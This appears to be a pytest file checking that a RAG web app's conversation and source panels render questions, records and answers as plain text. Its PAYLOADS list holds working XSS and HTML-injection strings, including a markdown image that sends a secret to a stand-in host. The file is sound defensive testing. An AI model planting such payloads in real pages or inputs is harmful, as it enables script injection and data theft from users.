"""Words of a question, a record and an answer that want to be markup stay words."""

from __future__ import annotations

from dataclasses import replace

import lxml.html
import pytest

from rag.domain import Answer, Document, Expansion, Filter, Question, Source, Status, Table, TableRow
from tests.web_calls import served
from tests.web_fakes import DIGEST, ORIGINAL, PLANNED, FakeReviews, cite, claim, refusal
from web.conversation.answers import conversation
from web.conversation.turns import Turn
from web.records.sources import source_panel
from web.reviews import Library

PAYLOADS = (
    "<script>window.PWN=1</script>",
    "<img src=x onerror=window.PWN=1>",
    "<svg onload=window.PWN=1>",
    "<svg><script>window.PWN=1</script></svg>",
    '"><script>window.PWN=1</script>',
    "' autofocus onfocus=window.PWN=1 x='",
    "</mark></span></div><form action=https://evil.example><input name=q></form>",
    "[click](javascript:window.PWN=1)",
    "<a href=javascript:window.PWN=1>click</a>",
    '<iframe srcdoc="<script>parent.PWN=1</script>"></iframe>',
    "<details open ontoggle=window.PWN=1>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=PWN=1&gt;'>",
    "$\\href{javascript:window.PWN=1}{x}$",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "![x](https://evil.example/?q=secret)",
    "&lt;script&gt;window.PWN=1&lt;/script&gt; ${window.PWN=1} {{window.PWN=1}}",
)


def record(base: Document, words: str) -> Document:
    """A record that says the words in its text and in everything that is told about it."""
    return replace(
        base,
        id=f"{base.id} {words}",
        title=words,
        text=f"{base.text}\n{words} stands here.\n\n- {words} in a list\n",
        dating_reason=words,
        jurisdiction=words,
        publisher=words,
        licence=words,
        notices=(words,),
        sources=(
            Source(words, "https://example.org/"),
            Source(words, f"javascript:{words}"),
            Source(words, words),
        ),
        excluded=tuple(replace(one, kind=words, rule=words) for one in base.excluded),
    )


def drawn(words: str) -> list[str]:
    """The page's HTML where a question, records, an answer, a refusal and an error say nothing but the words."""
    digest, original = record(DIGEST, words), record(ORIGINAL, words)
    library = Library({one.id: one for one in (digest, original)}, words)
    said = tuple(claim(one, f"{words} stands here.", words) for one in (digest, original))
    answer = Answer(
        Question(words),
        words,
        Status.PARTLY_ANSWERED,
        frame=words,
        claims=(*said, claim(digest, PLANNED)),
        notices=(words,),
        suggestions=(words,),
        expansions=(Expansion(words, words),),
        filters=(
            Filter("jurisdiction", "in", (words,), "inferred", words),
            Filter("kind", "in", (words,), "inferred"),
        ),
        table=Table((words,), (TableRow((words,), 1),)),
    )
    refused = replace(
        refusal(Question(words)),
        frame=words,
        reason=f"{words} again",
        nearest=(cite(original, f"{words} in a list"),),
        suggestions=(words,),
    )
    turns = (
        Turn(words, claims=answer.claims, answer=answer, library=library),
        Turn(words, answer=refused, library=library),
        Turn(words, message=words),
        Turn(words, waiting=words, claims=said, library=library),
    )
    panels = [
        source_panel(library.documents[one.document_id], one, number, words)
        for number, one in enumerate((*turns[0].evidence, *turns[1].evidence), start=1)
    ]
    return [conversation(turns), *panels]


def skeleton(html: str) -> list[tuple[str, ...]]:
    """Every element with the names of its attributes: what a browser would build, without any words."""
    return [
        (str(one.tag), *one.attrib)
        for one in lxml.html.fragment_fromstring(html, create_parent="main").iter()
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_of_a_question_a_record_and_an_answer_make_no_element_and_no_attribute(payload: str) -> None:
    plain, hostile = drawn("words"), drawn(payload)
    assert len(hostile) == len(plain) >= 5
    for harmless, attacked in zip(plain, hostile, strict=True):
        assert skeleton(attacked) == skeleton(harmless)
        page = lxml.html.fragment_fromstring(attacked, create_parent="main")
        assert payload in page.text_content()
        for element in page.iter():
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert name not in ("href", "src", "action") or value == "https://example.org/"


def test_a_page_asked_by_raw_requests_sends_words_back_as_words() -> None:
    with served(FakeReviews()) as page:
        plain = page.asked("When was it planned? words", "plain")
        for number, payload in enumerate(PAYLOADS):
            drawn = page.asked(f"When was it planned? {payload}", f"words-{number}")
            assert skeleton(drawn) == skeleton(plain)
            assert payload in lxml.html.fragment_fromstring(drawn, create_parent="main").text_content()
